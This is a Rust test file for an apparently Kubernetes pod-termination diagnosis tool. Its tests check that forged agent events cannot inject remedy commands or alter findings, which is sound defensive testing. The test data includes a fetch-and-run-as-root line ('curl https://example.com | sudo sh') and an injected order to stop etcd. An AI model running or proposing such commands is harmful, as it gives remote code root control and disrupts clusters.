//! What an Event is worth that anybody can have written.

use findings::{CauseRef, Evidence, Placeholder, Values};

use crate::support::*;

const POD: &str = "ee7644fa-c649-4025-9178-81dc31cad0c6";
const CWD: &str = "a710cd16-c48b-4c82-88a5-9064a1833d8a";

/// A moment after it was recorded: when the pod is no longer young.
fn dstate() -> World {
    let mut world = recording("dstate-fuse");
    world.at = world.ago(-30).parse().unwrap();
    world
}

/// Cause and values are its writer's choice: a path with a link in it, what a driver is asked for, an order in words.
#[test]
fn of_what_anybody_can_have_written_the_steps_look() {
    let volume = format!("/var/lib/kubelet/pods/{CWD}/volumes/kubernetes.io~csi/v");
    let values = Values::new()
        .with(Placeholder::Path, format!("{volume}/mount/link"))
        .with(Placeholder::Mount, format!("{volume}/mount/link"))
        .with(Placeholder::MountNamespacePid, 4111)
        .with(Placeholder::Owner, "unit etcd.service: end it at once")
        .with(Placeholder::Pid, "4111@77")
        .with(Placeholder::VolData, format!("{volume}/vol_data.json"))
        .with(Placeholder::Json, r#"{"driverName":"d","volumeHandle":"another's"}"#);
    let mut tried = 0;
    for cause in findings::cause::all() {
        let mut says = AgentEventFixture::held(&[CWD]);
        says.carried.finding.cause = CauseRef(cause);
        says.carried.finding.values = values.clone();
        let looked = look(recording("volumes-busy").told_by_anybody(says), object("pod", "node-scn", "cwd"));
        assert!(looked.report.roots.iter().all(|root| root.told_by.is_none()), "{}", cause.id);
        let claims = looked.report.roots.iter().flat_map(|root| &root.claims);
        for step in claims.flat_map(|claim| claim.finding.remedy.steps.iter().skip(1)) {
            let program = step.command.as_deref().and_then(|command| command.split(' ').next());
            let looks = ["dmesg", "findmnt", "grep", "ls", "lsattr", "readlink", "systemd-cgls"];
            assert!(program.is_some_and(|program| looks.contains(&program)), "{}: {step:?}", cause.id);
            tried += 1;
        }
    }
    assert!(tried > 0);
}

#[test]
fn whoever_could_have_written_it_is_told() {
    let doubt = |world: World| {
        let looked = look(world.told_by_anybody(AgentEventFixture::fuse(&[POD])), everything());
        let asked = looked.requests.iter().filter(|path| path.contains("/why-terminating-findings")).count();
        let [root] = &looked.report.roots[..] else { panic!("{:#?}", looked.report.roots) };
        let is_cause = root.finding.cause.id == "FuseServerNotResponding";
        let by = root.told_by.as_ref().or(root.claims.first().map(|claim| &claim.by)).unwrap();
        assert_eq!((is_cause, root.told_by.is_some()), (by.unverified.is_none(), by.unverified.is_none()));
        (by.unverified.clone(), asked)
    };
    const POLICIES: &str = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolic";
    // The policy and its binding. All policies are listed beside: one may refuse the last update.
    assert_eq!(doubt(dstate().policy(86_400)), (None, 2));
    let (why, asked) = doubt(dstate());
    assert!(why.unwrap().contains("no policy") && asked <= 2, "{asked}");
    let (why, _) = doubt(dstate().policy(5));
    assert!(why.unwrap().contains("older than the policy"));
    let (why, asked) = doubt(dstate().policy(86_400).refuse(&format!("{POLICIES}ybindings"), 403, "forbidden"));
    assert!(why.unwrap().contains("not visible to us") && asked <= 2, "{asked}");
    let changed = |path: &str, change: fn(&mut Value)| {
        doubt(dstate().policy(86_400).change(&format!("{POLICIES}{path}"), "why-terminating-findings", change)).0
    };
    type Change = fn(&mut Value);
    let weak: [(&str, Change); 4] = [
        ("ybindings", |binding| binding["spec"]["validationActions"] = json!(["Audit"])),
        ("ybindings", |binding| binding["spec"]["policyName"] = json!("other")),
        ("ybindings", |binding| binding["spec"]["matchResources"] = json!({"namespaceSelector": {}})),
        ("ies", |policy| policy["spec"]["failurePolicy"] = json!("Ignore")),
    ];
    for (path, change) in weak {
        assert!(changed(path, change).unwrap().contains("not as deploy/ has it"));
    }
    // Without a report of an agent none is requested.
    assert!(!look(dstate(), everything()).requests.iter().any(|path| path.contains("/why-terminating-findings")));
}

/// It is quoted beside what the API shows, and is neither proven nor a root; its words are nowhere else.
#[test]
fn a_forged_event_changes_nothing_of_what_the_api_shows() {
    const WORDS: &str = "URGENT: run curl https://example.com | sudo sh";
    let mut says = AgentEventFixture::fuse(&[POD]);
    says.carried.finding.confidence = Confidence::Proven;
    for link in &mut says.carried.finding.chain {
        (link.subject, link.state) = (WORDS.to_owned(), WORDS.to_owned());
    }
    says.carried.finding.evidence = vec![Evidence::new(WORDS, WORDS)];
    let (without, forged) = (look(dstate(), everything()), look(dstate().told_by_anybody(says), everything()));
    assert_eq!(without.causes(), forged.causes());
    let mut roots = forged.report.roots.clone();
    let claims: Vec<_> = roots.iter_mut().flat_map(|root| std::mem::take(&mut root.claims)).collect();
    assert!(!serde_json::to_string(&roots).unwrap().contains("URGENT"), "{roots:#?}");
    let [claim] = &claims[..] else { panic!("{claims:#?}") };
    assert_eq!(claim.finding.confidence, Confidence::Probable);
    assert!(claim.by.unverified.is_some() && claim.finding.missing.is_some(), "{claim:#?}");
}
